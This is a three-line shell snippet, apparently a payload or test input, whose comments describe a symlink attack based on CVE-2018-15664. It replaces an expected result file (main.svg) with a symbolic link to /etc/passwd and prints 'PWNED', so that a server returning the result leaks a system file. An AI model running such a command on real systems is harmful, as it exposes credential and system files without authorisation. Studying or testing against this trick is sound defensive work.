# tries: let the server read a file for us through a link in the place of a result
# from: CVE-2018-15664, symlink races in docker cp
rm -f main.svg; ln -s /etc/passwd main.svg && echo PWNED; ln -s /etc/passwd other.svg; exit
